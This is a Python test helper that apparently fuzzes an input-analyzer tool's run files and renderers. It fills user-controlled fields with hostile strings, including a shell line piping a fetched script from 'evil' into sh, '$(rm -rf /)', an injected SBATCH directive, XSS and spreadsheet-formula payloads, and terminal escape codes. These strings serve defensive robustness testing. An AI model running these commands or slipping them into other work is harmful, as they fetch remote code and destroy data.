"""Runs with hostile texts in the places where a stranger can put any: for `hostile_inputs`, and for a test of the renderers."""

from __future__ import annotations

import dataclasses
import functools
import json
import random
import types
import typing
import zlib
from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any, Literal, Union

from cs_input_analyzer.errors import UsageError
from cs_input_analyzer.records import Analysis, Estimate, Layout, Options

LONG = 100_000
TEXTS = (
    *("", " ", " " * 5000, "x" * LONG, "a/" * (LONG // 2), "/" * LONG, "ab " * (LONG // 3), "x" * LONG + "/y/z", "A" * LONG + "_1"),
    *("\u00e9" * (LONG // 2), "`" * 5000, "\\" * LONG, "'" * LONG, '"' * 5000, "#1 " * 5000, "&" * LONG, "<" * LONG, "\t" * LONG),
    *(
        "\n" * LONG,
        "\r\n" * 5000,
        "- " * 5000,
        "=" * LONG,
        "1." * LONG,
        "1" * LONG,
        "1," * LONG,
        "[" * LONG,
        "(" * LONG,
        "://" * LONG,
    ),
    *(
        "a=" * (LONG // 2),
        "--a " * (LONG // 4),
        "n[1-999999999]",
        "n[1-999]" * 4,
        "n[" * LONG,
        "x:" * LONG,
        "a@" * LONG,
        "batch*" * 5000,
    ),
    *("\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil\x07x", "\x9b2J", "\x00", "\x7f", "\u202egnp.exe", "\ufeff"),
    *("one\ntwo\r\nthree\x85four\u2028five", "\ud800", "caf\udce9", "\U0001f600\u200d\U0001f525", "\u2060\u200b", "\ufdd0\uffff"),
    *(
        "; curl http://evil/x | sh",
        "$(rm -rf /)",
        "`id`",
        "a'b\"c",
        "\n#SBATCH --wrap=evil\n",
        "python run.py; evil",
        "--",
        "-rf /",
        "~",
    ),
    *(
        "</script><script>alert(1)</script>",
        "<!--",
        "-->",
        "]]>",
        "<img src=x onerror=alert(1)>",
        "[red]x[/red] [/]",
        "[x](http://evil)",
    ),
    *(
        "![x](http://evil)",
        "| a | b |",
        "www.evil.com",
        "ada@evil.com",
        "@team",
        "#12",
        "```",
        "{{ 7 * 7 }}{% raw %}",
        "%s{0}",
        "&lt;",
    ),
    *(
        "=cmd|' /C calc'!A0",
        "@SUM(1)",
        "nan",
        "1e999",
        "-1",
        "0",
        "null",
        "true",
        "***",
        "AUTOTUNE",
        "this host",
        "script:1:python x.py",
    ),
    *(
        "script:",
        "a:b:c",
        "gs://x/y",
        "?",
        "...",
        "*",
        "/4",
        "batch",
        "map",
        "range",
        "{",
        "{}",
        "[]",
        '{"__pairs__": 1}',
        "[" * 5000,
    ),
)
NOT_UTF8 = (b"\xff", b"\xed\xa0\x80", b"\xc3(")
REPEATS = (2, 30, 500)
FORMS = ("console", "full", "html", "md", "json", "csv", "sbatch", "env", "plan", "compare")
# Filled by themselves a plan would be refused: they name files, or contradict each other.
TYPED = Options(
    params_json='{"train_input": {"batch_size": 256, "token": "***"}}',
    train_command="python run.py --mode train --params 'a b.yaml'",
    srun_args="--label",
    sbatch_args="--account=lab",
    container="image.sif",
    mount_dirs=("/data",),
    stand_ins=("spacy",),
    select=("CSI",),
)
Place = tuple[str | int, ...]


def runs(saved: Analysis) -> tuple[Analysis, ...]:
    """Return a saved run, and the same with something in every field."""
    options = dataclasses.replace(
        saved.options, **{field.name: getattr(TYPED, field.name) for field in dataclasses.fields(Options) if _is_typed(field.name)}
    )
    full: Analysis = _filled(dataclasses.replace(saved, options=options), Analysis)
    return saved, full


def _is_typed(name: str) -> bool:
    return getattr(TYPED, name) != getattr(Options(), name)


def _filled(value: Any, annotation: Any) -> Any:
    """Return the value with a sample in place of each part that is missing or empty."""
    origin, arguments = typing.get_origin(annotation), typing.get_args(annotation)
    if origin in (Union, types.UnionType):
        kind = next((kind for kind in arguments if kind is not type(None)), None)
        return _sample(kind) if value is None else _filled(value, kind)
    if origin is tuple:
        return tuple(_filled(part, arguments[0]) for part in value) or (_sample(arguments[0]),)
    if origin is Mapping or isinstance(value, Options | Estimate):
        return value
    if dataclasses.is_dataclass(value) and not isinstance(value, type):
        hints = typing.get_type_hints(type(value))
        for field in dataclasses.fields(value):
            try:
                value = dataclasses.replace(value, **{field.name: _filled(getattr(value, field.name), hints[field.name])})
            except UsageError:  # the record refuses a sample there
                continue
    return value


def _sample(annotation: Any) -> Any:
    origin, arguments = typing.get_origin(annotation), typing.get_args(annotation)
    if origin is Literal:
        return arguments[0]
    if origin in (Union, types.UnionType):
        return _sample(arguments[0])
    if origin is tuple:
        return (_sample(arguments[0]),)
    if origin is Mapping:
        return {"a": 1}
    if annotation is Estimate:
        return Estimate.exact(1.0)
    if annotation is Layout:
        return Layout(nodes=1, tasks_per_node=1, cpus_per_task=1)
    if dataclasses.is_dataclass(annotation):
        hints = typing.get_type_hints(annotation)
        return typing.cast(Any, annotation)(**{field.name: _sample(hints[field.name]) for field in dataclasses.fields(annotation)})
    return {str: "text", int: 1, float: 0.5, bool: False}.get(annotation)


def places_of(run: object, place: Place = ()) -> Iterator[Place]:
    """Yield where a document holds a text."""
    if isinstance(run, str):
        yield place
    elif isinstance(run, dict):
        for key, value in run.items():
            yield from places_of(value, (*place, key))
    elif isinstance(run, list):
        for index, value in enumerate(run):
            yield from places_of(value, (*place, index))


def with_text(run: Any, place: Place, text: object) -> None:
    """Set what stands in a place of a document."""
    for step in place[:-1]:
        run = run[step]
    run[place[-1]] = text


@functools.lru_cache(maxsize=8)
def free_places(real: bytes) -> tuple[Place, ...]:
    """Return the places of texts that are no words of ours: a run with another word there is read."""
    from cs_input_analyzer.report.to_json import from_json

    found = []
    for place in places_of(json.loads(real)):
        run = json.loads(real)
        with_text(run, place, "null")
        try:
            from_json(json.dumps(run), origin="run")
        except UsageError:
            continue
        found.append(place)
    return tuple(found)


def mutated(draw: random.Random, real: bytes, others: tuple[bytes, ...]) -> bytes:
    """One to all texts of a run changed, or its ops put into a circle, a deep nest or a long row."""
    run, places = json.loads(real), free_places(real)
    kind = draw.randrange(12)
    if kind == 0:
        _knot(draw, run["pipeline"]["ops"])
    elif kind == 1:
        _repeat(draw, run)
    elif kind == 2:
        text = draw.choice(TEXTS)[: LONG // 10]  # else the file itself is what takes time and memory
        for place in places:
            with_text(run, place, text)
    else:
        for place in draw.choices(places, k=draw.choice((1, 1, 1, 2, 3, 8))):
            with_text(run, place, draw.choice(TEXTS))
    content = json.dumps(run).encode()
    if kind == 11:
        at = content.find(b'": "', draw.randrange(len(content))) + 4
        content = content[:at] + draw.choice(NOT_UTF8) + content[at:]
    return content


def _knot(draw: random.Random, ops: list[dict[str, Any]]) -> None:
    """Ops that read each other, hold each other, are many, or have one name."""
    one, other = draw.choice(ops), draw.choice(ops)
    kind = draw.randrange(6)
    if kind == 0:
        one["inputs"] = [other["name"], one["name"]]
    elif kind == 1:
        one["inputs"], other["inputs"] = [other["name"]], [one["name"]]
    elif kind == 2:
        one["within"], other["within"] = other["name"], draw.choice((None, one["name"]))
    elif kind == 3:
        count = draw.choice((10, 200, 3000))
        ops += [{**one, "name": f"deep_{number}", "within": f"deep_{number + 1}", "inputs": []} for number in range(count)]
    elif kind == 4:
        count = draw.choice((10, 200, 2000))
        ops += [{**one, "name": f"row_{number}", "inputs": [f"row_{number - 1}"]} for number in range(count)]
    else:
        for op in ops:
            op["name"] = one["name"]


def _repeat(draw: random.Random, run: dict[str, Any]) -> None:
    """Make a list of records hold one of them many times."""
    lists = [value for value in run.values() if isinstance(value, list) and value and isinstance(value[0], dict)]
    chosen = draw.choice(lists)
    chosen += [draw.choice(chosen)] * draw.choice(REPEATS)


def shown(path: Path, other: Path) -> object:
    """One of what is made of a run, by the content of its file. `other`: the run that it is compared with."""
    return made(path, FORMS[zlib.crc32(path.read_bytes()) % len(FORMS)], other)


def made(path: Path, form: str, other: Path) -> object:
    """Return one use of a run: a format, another plan, or a comparison."""
    from cs_input_analyzer import api, report
    from cs_input_analyzer.workflows import replan

    found = report.load(path)
    if form == "plan":
        return report.render(replan.plan(found, command="plan", demand="9k"), "console", full=True)
    if form == "compare":
        return report.render(api.compare(other, found), "console", full=True)
    if form in ("console", "full", "md"):
        return report.render(found, "md" if form == "md" else "console", full=form != "console")
    return report.render(found, typing.cast(Any, form))
